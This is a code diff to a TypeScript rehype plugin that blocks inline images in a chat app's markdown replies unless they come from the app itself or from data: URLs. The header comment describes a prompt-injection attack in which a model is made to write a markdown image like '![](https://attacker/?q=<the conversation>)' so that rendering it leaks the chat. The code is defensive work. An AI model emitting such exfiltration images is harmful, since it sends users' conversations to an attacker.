@@ -1,5 +1,4 @@
 import type { Element, ElementContent, Root } from "hast";
-import { defaultUrlTransform, type UrlTransform } from "react-markdown";
 
 /**
  * Images in a reply are shown only from the app itself or from `data:`. Anything else is a URL a
@@ -7,7 +6,8 @@ import { defaultUrlTransform, type UrlTransform } from "react-markdown";
  * can make it write `![](https://attacker/?q=<the conversation>)` — and showing it would send the
  * request as soon as it renders. Such an image becomes a link with its alt text, followed only if
  * the user clicks it. (The pages' Content-Security-Policy, `img-src 'self' data:`, blocks the
- * fetch too.)
+ * fetch too.) Streamdown's own image rule (rehype-harden's allowed prefixes) would need the
+ * page's origin, which a server rendering does not know, and blocks instead of linking.
  */
 
 // Resolving against a base of our own applies the browser's URL rules (`//host`, `/\host`, tabs
@@ -25,7 +25,10 @@ export function isInlineImageSource(src: string): boolean {
   return isDataImage(url) || url.origin === BASE.origin;
 }
 
-/** A rehype plugin: every image that may not be shown inline becomes a link to it. */
+/**
+ * A rehype plugin: every image that may not be shown inline becomes a link to it. It runs before
+ * the sanitizer (markdown-sanitize.ts), which then drops any such link's unsafe `href`.
+ */
 export function rehypeImagesAsLinks() {
   return (tree: Root) => {
     rewrite(tree, false);
@@ -52,9 +55,3 @@ function rewrite(parent: Root | Element, insideLink: boolean): void {
     return child;
   });
 }
-
-/** react-markdown's URL rule, which drops `data:`, but keeping `data:` images. */
-export const urlTransform: UrlTransform = (value, key, node) =>
-  key === "src" && node.tagName === "img" && URL.canParse(value) && isDataImage(new URL(value))
-    ? value
-    : defaultUrlTransform(value);
